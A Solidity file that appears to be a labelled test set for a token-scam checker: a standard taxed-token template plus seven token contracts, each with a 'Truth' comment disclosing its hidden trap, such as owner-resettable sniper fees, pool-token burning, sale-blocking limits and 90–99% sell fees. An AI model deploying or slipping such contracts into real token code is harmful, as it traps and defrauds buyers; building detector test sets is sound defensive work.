// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ISixthPool {
    function token0() external view returns (address);
    function token1() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
    function mint(address to) external returns (uint256);
    function sync() external;
}

/// @title The template with a tax, a list of pools, a marketing wallet and a swap of what the tax took, as launches
/// use it since 2022; and launches on it. Written on 30 November 2026, sixth look, by somebody who had not read how
/// the check works. The template is harmless by itself; `Truth` says what its heir is
abstract contract SixthTax {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event SetAutomatedMarketMakerPair(address indexed pair, bool indexed value);
    event ExcludeFromFees(address indexed account, bool isExcluded);

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    address internal constant DEAD = address(0xdead);

    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isExcludedFromFees;
    mapping(address => bool) public isExcludedMaxTransaction;
    mapping(address => bool) public automatedMarketMakerPairs;

    address public owner;
    address public uniswapV2Pair;
    address public immutable marketingWallet;
    uint256 public buyTotalFees = 3;
    uint256 public sellTotalFees = 3;
    uint256 public maxTransactionAmount = totalSupply / 50;
    uint256 public maxWallet = totalSupply / 50;
    uint256 public swapTokensAtAmount = totalSupply / 2_000;
    bool public limitsInEffect = true;
    bool public tradingActive;
    bool internal _swapping;

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
        owner = marketingWallet = msg.sender;
        isExcludedFromFees[msg.sender] = isExcludedFromFees[address(this)] = isExcludedFromFees[DEAD] = true;
        isExcludedMaxTransaction[msg.sender] = isExcludedMaxTransaction[address(this)] = true;
        isExcludedMaxTransaction[DEAD] = true;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPair(address pair) external virtual onlyOwner {
        require(uniswapV2Pair == address(0), "The pair is known");
        uniswapV2Pair = pair;
        automatedMarketMakerPairs[pair] = isExcludedMaxTransaction[pair] = true;
        tradingActive = true;
        emit SetAutomatedMarketMakerPair(pair, true);
    }

    function removeLimits() external onlyOwner {
        limitsInEffect = false;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 granted = allowance[from][msg.sender];
        if (granted != type(uint256).max) {
            require(granted >= amount, "ERC20: insufficient allowance");
            allowance[from][msg.sender] = granted - amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        _beforeMove(from, to, amount);
        if (!_swapping) {
            bool isFree = isExcludedFromFees[from] || isExcludedFromFees[to];
            require(tradingActive || isFree, "Trading is not active.");
            if (limitsInEffect && !isFree) _checkLimits(from, to, amount);
            bool isSale = automatedMarketMakerPairs[to] && !isExcludedFromFees[from];
            if (isSale && balanceOf[address(this)] >= swapTokensAtAmount) {
                _swapping = true;
                _swapBack();
                _swapping = false;
            }
        }
        uint256 fees;
        if (!_swapping && !isExcludedFromFees[from] && !isExcludedFromFees[to])
            fees = (amount * _feeOf(from, to, amount)) / 100;
        if (fees > 0) _move(from, address(this), fees);
        _move(from, to, amount - fees);
    }

    function _beforeMove(address from, address to, uint256 amount) internal virtual {}

    function _checkLimits(address from, address to, uint256 amount) internal view virtual {
        if (automatedMarketMakerPairs[to]) {
            require(isExcludedMaxTransaction[from] || amount <= maxTransactionAmount, "Sell exceeds the max.");
        } else if (!isExcludedMaxTransaction[to]) {
            require(!automatedMarketMakerPairs[from] || amount <= maxTransactionAmount, "Buy exceeds the max.");
            require(amount + balanceOf[to] <= maxWallet, "Max wallet exceeded");
        }
    }

    function _feeOf(address from, address to, uint256) internal view virtual returns (uint256) {
        if (automatedMarketMakerPairs[to]) return sellTotalFees;
        return automatedMarketMakerPairs[from] ? buyTotalFees : 0;
    }

    function _swapBack() internal virtual {
        _sellToPool(_toSwap(), marketingWallet);
    }

    function _toSwap() internal view returns (uint256) {
        uint256 amount = balanceOf[address(this)];
        return amount > swapTokensAtAmount * 20 ? swapTokensAtAmount * 20 : amount;
    }

    function _sellToPool(uint256 amount, address receiver) internal returns (uint256 out) {
        ISixthPool pool = ISixthPool(uniswapV2Pair);
        (uint256 here, uint256 there, uint256 isFirst) = _reserves(pool);
        _move(address(this), address(pool), amount);
        out = (amount * 997 * there) / (here * 1_000 + amount * 997);
        pool.swap(isFirst == 1 ? 0 : out, isFirst == 1 ? out : 0, receiver, "");
    }

    function _reserves(ISixthPool pool) internal view returns (uint256 here, uint256 there, uint256 isFirst) {
        (uint112 reserve0, uint112 reserve1, ) = pool.getReserves();
        isFirst = pool.token0() == address(this) ? 1 : 0;
        (here, there) = isFirst == 1 ? (reserve0, reserve1) : (reserve1, reserve0);
    }

    function _move(address from, address to, uint256 amount) internal {
        require(balanceOf[from] >= amount, "ERC20: transfer amount exceeds balance");
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// @dev Truth: one person. Each part of the sale's fee is at most 25 %, but there are four parts: 4 × 24 leave
/// nothing.
contract ChillGuyCoin is SixthTax("Chill Guy Coin", "CHILL") {
    uint256 public sellMarketingFee = 1;
    uint256 public sellLiquidityFee = 1;
    uint256 public sellDevFee = 1;
    uint256 public sellCharityFee;

    function updateSellFees(uint256 marketing, uint256 liquidity, uint256 dev, uint256 charity) external onlyOwner {
        require(marketing <= 25 && liquidity <= 25 && dev <= 25 && charity <= 25, "Must keep fees at 25% or less");
        (sellMarketingFee, sellLiquidityFee, sellDevFee, sellCharityFee) = (marketing, liquidity, dev, charity);
        sellTotalFees = marketing + liquidity + dev + charity;
    }
}

/// @dev Truth: one person. Whoever buys in the first five blocks is a sniper and pays 99 % on a sale; the owner begins
/// the five blocks anew whenever they like, and has caught whoever buys then.
contract WagmiHamster is SixthTax("Wagmi Hamster", "WAGMI") {
    uint256 public launchBlock;
    uint256 public deadBlocks;
    mapping(address => bool) public isSniper;

    function enableTrading(uint256 deadBlocks_) external onlyOwner {
        require(deadBlocks_ <= 5, "Five blocks at most");
        (launchBlock, deadBlocks) = (block.number, deadBlocks_);
    }

    function _beforeMove(address from, address to, uint256) internal override {
        if (automatedMarketMakerPairs[from] && block.number <= launchBlock + deadBlocks && launchBlock > 0)
            isSniper[to] = true;
    }

    function _feeOf(address from, address to, uint256 amount) internal view override returns (uint256) {
        return isSniper[from] ? 99 : super._feeOf(from, to, amount);
    }
}

/// @dev Truth: one person. Who receives before the opening counts as a sniper, and so does the pool, which receives
/// its liquidity then. The sniper manager, who is not the owner, burns 99 % of what a sniper has: of the pool's side
/// too.
contract PandaProtocol is SixthTax("Panda Protocol", "PANDA") {
    mapping(address => bool) public isSniper;
    address public immutable sniperManager = msg.sender;

    event SniperTokensBurn(address indexed sniper, uint256 amount);

    function _beforeMove(address, address to, uint256) internal override {
        if (!tradingActive && to != owner) isSniper[to] = true;
    }

    function burnSniperTokens(address sniper) external {
        require(msg.sender == sniperManager && isSniper[sniper], "Snipers only");
        uint256 amount = (balanceOf[sniper] * 99) / 100;
        _move(sniper, DEAD, amount);
        emit SniperTokensBurn(sniper, amount);
    }
}

/// @dev A share counter, harmless by itself.
contract SixthDividendTracker {
    address private immutable _token = msg.sender;
    mapping(address => uint256) public shares;
    uint256 public totalShares;

    function setBalance(address account, uint256 balance) external {
        require(msg.sender == _token, "token only");
        totalShares = totalShares + balance - shares[account];
        shares[account] = balance;
    }
}

/// @dev Truth: one person. Each transfer tells the dividend tracker, and fails where that fails; the marketing wallet
/// replaces the tracker (by itself, say, which has no code), also after the owner gave up. Excluded wallets skip it.
contract CakeDividendDoge is SixthTax("Cake Dividend Doge", "CDOGE") {
    SixthDividendTracker public dividendTracker = new SixthDividendTracker();

    event UpdateDividendTracker(address indexed newTracker);

    function updateDividendTracker(address newTracker) external {
        require(msg.sender == marketingWallet && newTracker != address(dividendTracker), "Tracker: no change");
        dividendTracker = SixthDividendTracker(newTracker);
        emit UpdateDividendTracker(newTracker);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        super._transfer(from, to, amount);
        if (isExcludedFromFees[from]) return;
        dividendTracker.setBalance(from, balanceOf[from]);
        if (!automatedMarketMakerPairs[to]) dividendTracker.setBalance(to, balanceOf[to]);
    }
}

/// @dev Truth: one person. The largest wallet is asked of whoever receives and is not exempt; the owner takes the
/// pool's exemption away, and then no sale fits into the pool.
contract LuckyLlamaClub is SixthTax("Lucky Llama Club", "LLAMA") {
    function excludeFromMaxTransaction(address account, bool isExempt) external onlyOwner {
        isExcludedMaxTransaction[account] = isExempt;
    }

    function updateMaxWalletAmount(uint256 percent) external onlyOwner {
        require(percent >= 1, "Cannot set maxWallet lower than 1%");
        maxWallet = (totalSupply * percent) / 100;
    }

    function _checkLimits(address, address to, uint256 amount) internal view override {
        require(isExcludedMaxTransaction[to] || amount + balanceOf[to] <= maxWallet, "Max wallet exceeded");
    }
}

/// @dev Truth: a buyer loses at once. Who pays the block's maker anything counts as a bot and leaves 90 % of a sale
/// here; every wallet pays something.
contract MevShieldMoose is SixthTax("MEV Shield Moose", "MOOSE") {
    uint256 public constant mevFee = 90;

    function _feeOf(address from, address to, uint256 amount) internal view override returns (uint256) {
        bool isBot = tx.gasprice > block.basefee;
        return automatedMarketMakerPairs[to] && isBot ? mevFee : super._feeOf(from, to, amount);
    }
}

/// @dev Truth: a buyer loses at once; inventive. The fee is 3 % for who sells in the very transaction in which they
/// bought, 'so that traders keep the price level', and 95 % for everybody else.
contract FinchFlashMarket is SixthTax("Finch Flash Market", "FINCH") {
    address private transient _buyerNow;

    function _beforeMove(address from, address to, uint256) internal override {
        if (automatedMarketMakerPairs[from]) _buyerNow = to;
    }

    function _feeOf(address from, address to, uint256 amount) internal view override returns (uint256) {
        return automatedMarketMakerPairs[to] && _buyerNow != from ? 95 : super._feeOf(from, to, amount);
    }
}
